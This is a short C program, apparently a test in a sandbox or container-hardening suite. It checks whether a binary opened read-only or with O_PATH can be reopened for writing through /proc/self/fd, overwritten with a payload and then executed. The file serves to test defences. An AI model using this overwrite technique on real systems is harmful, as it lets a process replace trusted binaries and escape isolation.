// The image binary is opened for reading, and for writing only through /proc/self/fd.
#include "evasion.h"
static int attempt(int flags) {
  char path[64];
  int fd = open(VICTIM, flags);
  if (fd < 0) return 0;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int writer = noted(open(path, O_WRONLY | O_TRUNC));
  close(fd);
  write_payload(writer);
  if (writer >= 0) close(writer);
  return runs_payload(VICTIM);
}
int main(void) {
  int reader = attempt(O_RDONLY);
  return verdict(reader | attempt(O_PATH));
}
